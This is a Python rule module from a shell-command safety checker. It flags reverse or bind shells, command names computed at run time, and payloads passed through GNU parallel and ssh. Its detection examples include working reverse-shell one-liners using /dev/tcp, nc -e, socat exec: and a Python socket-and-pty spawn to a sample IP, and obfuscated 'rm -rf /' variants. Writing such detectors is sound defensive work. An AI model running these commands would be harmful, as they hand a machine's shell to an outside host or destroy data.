"""DG3xx (hidden shells): reverse shells, run-time command words, parallel and ssh payloads."""

from __future__ import annotations

from collections.abc import Iterator

from tether.rules.base import Rule, Tier
from tether.rules.danger._base import Hit, Scope, is_python, name_of, options_of
from tether.rules.danger.remote import EVAL_DYNAMIC, SHELLS
from tether.shell.model import SimpleCommand, Word
from tether.shell.words import first_split, unwrap

REVERSE_SHELL = Rule(
    code="DG305",
    name="reverse-shell",
    tier=Tier.ASK,
    summary="A shell wired to a network socket (reverse or bind shell)",
    why="/dev/tcp redirects, `nc -e`, `socat exec:` and socket+dup2 one-liners hand a shell "
    "on this machine to whoever is at the other end.",
    instead="Don't open remote shells; use the tools the task needs directly.",
    match=(
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "nc -e /bin/sh 10.0.0.1 4242",
        "ncat 10.0.0.1 4242 --sh-exec /bin/bash",
        "socat tcp:10.0.0.1:4242 exec:/bin/sh",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("h",1));'
        'os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
    ),
    not_match=("nc -z localhost 8080", "echo hi > /dev/null", "socat - TCP:localhost:80"),
)

DYNAMIC_COMMAND_WORD = Rule(
    code="DG306",
    name="dynamic-command-word",
    tier=Tier.ASK,
    summary="The command to run is only known at run time",
    why="`$x -rf /` or `$(echo rm) -rf /` hides the program's name from every check, and "
    "so does a word bash splits before a wrapper's command (`timeout $T ls` runs "
    "`timeout 5 rm -rf ls` when `T='5 rm -rf'`).",
    instead="Spell the command name out literally.",
    match=(
        "${0/x/r}m -rf /",
        "$CMD -rf /srv",
        "r$(true)m -rf x",
        "$(get_tool) --purge",
        "timeout $T ls",  # bash splits $T: ``T="5 rm -rf"`` makes rm the command
        "sudo -u $U ls ~",
        "watch ls $D",  # watch runs its words with sh -c
    ),
    not_match=(
        "$VENV/bin/python -m pytest",
        'timeout "$T" ls',
        "timeout 5 ls $DIR",
        "echo $x",
        "./run.sh",
        "cmd=ls; $cmd -la",
        "$(echo ls) -la",
    ),
)

RULES = (
    REVERSE_SHELL,
    DYNAMIC_COMMAND_WORD,
)


_NETCATS = ("nc", "ncat", "netcat")


def check_sockets(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag netcat/socat invocations that attach a program to the connection."""
    name = name_of(cmd)
    if name in _NETCATS:
        if options_of("nc", cmd.args).has("--exec", "--sh-exec", "--lua-exec"):
            yield REVERSE_SHELL.hit(f"{name} -e attaches a program to the socket")
    elif name == "socat":
        # socat's addresses are its operands (``exec:``, ``system:`` run a program).
        low = [w.value.lower() for w in cmd.args]
        if any(v.startswith(("exec:", "system:")) or ",exec:" in v for v in low):
            yield REVERSE_SHELL.hit("socat exec: attaches a program to the socket")


def check_redirect_socket(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag redirects to /dev/tcp or /dev/udp on an interactive shell (reverse shell)."""
    for r in cmd.redirects:
        if r.target is not None and r.target.value.startswith(("/dev/tcp/", "/dev/udp/")):
            name = name_of(cmd)
            if (
                name in SHELLS
                or is_python(name)
                or name in ("exec", "")
                or r.op in (">&", "<&", "&>")
            ):
                yield REVERSE_SHELL.hit(f"{name or 'exec'} redirected to {r.target.value}")
                return


def check_dynamic_word(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag a command word assembled at run time (``$x``, ``$(echo rm)``)."""
    if not cmd.argv or cmd.argv[0].literal or scope.model.errors:
        return  # words recovered from a parse error are not commands anyone runs
    word = cmd.argv[0].value
    head, _, tail = word.rpartition("/")
    if (
        head
        and tail
        and all(c not in tail for c in "$`{}()*?[")
        and (head.startswith("$") or head.startswith("${"))
    ):
        return  # ``$VENV/bin/python``: the program's name is visible
    if word.startswith("<"):
        return  # xargs/parallel input placeholder handled by their own checks
    yield DYNAMIC_COMMAND_WORD.hit(f"command word {word[:60]!r} is computed at run time")


def check_parallel(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Judge the commands GNU parallel builds (template × ::: inputs, or ::: command strings)."""
    parsed = options_of("parallel", cmd.args)
    args = list(cmd.args[parsed.stop :])
    i = 0
    template = []
    while i < len(args) and args[i].value not in (":::", "::::", ":::+"):
        template.append(args[i])
        i += 1
    inputs = [w for w in args[i:] if w.value not in (":::", "::::", ":::+")]
    if not template:
        for w in inputs:
            yield from scope.reparse(w.value)
        return
    feeds = inputs if inputs else [Word("<parallel input>", literal=False)]
    seen: set[str] = set()
    for feed in feeds[:16]:
        has_slot = any("{" in w.value for w in template)
        argv = tuple(
            Word(w.value.replace("{}", feed.value), feed.literal) if "{" in w.value else w
            for w in template
        )
        if not has_slot:
            argv = (*argv, feed)
        # Wrappers and ``sh -c`` payloads in the template are peeled as the parser peels them.
        peeled = unwrap(argv)
        if peeled.payload is not None:
            hits = scope.reparse(peeled.payload)
        else:
            wrappers = cmd.wrappers + peeled.wrappers
            synthetic = SimpleCommand(peeled.argv, wrappers=wrappers, shell_depth=cmd.shell_depth)
            hits = scope.judge(synthetic)
        for hit in hits:
            if hit.code not in seen:
                seen.add(hit.code)
                yield Hit(hit.code, f"parallel runs {hit.detail}")


def check_ssh(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Judge the command ``ssh host '…'`` runs on the remote machine (same rules, other host)."""
    before = options_of("ssh", cmd.args)
    if not before.operands:
        return
    # ssh reads options again after the destination, up to the remote command.
    rest = options_of("ssh", before.operands[1:]).operands
    if first_split(cmd.args, len(cmd.args) - len(rest)) >= 0:
        # ``ssh $H ls``: with ``H='h rm -rf ~'`` the remote command is another one.
        yield EVAL_DYNAMIC.hit("ssh: a word split at run time comes before the remote command")
    if not rest:
        return
    if not all(w.literal for w in rest):
        yield EVAL_DYNAMIC.hit("ssh runs a remote command built at run time")
        return
    text = " ".join(w.value for w in rest)
    for hit in scope.reparse(text):
        yield Hit(hit.code, f"on the remote host: {hit.detail}")


CHECKS = {
    "ssh": check_ssh,
    "nc": check_sockets,
    "ncat": check_sockets,
    "netcat": check_sockets,
    "socat": check_sockets,
    "parallel": check_parallel,
}
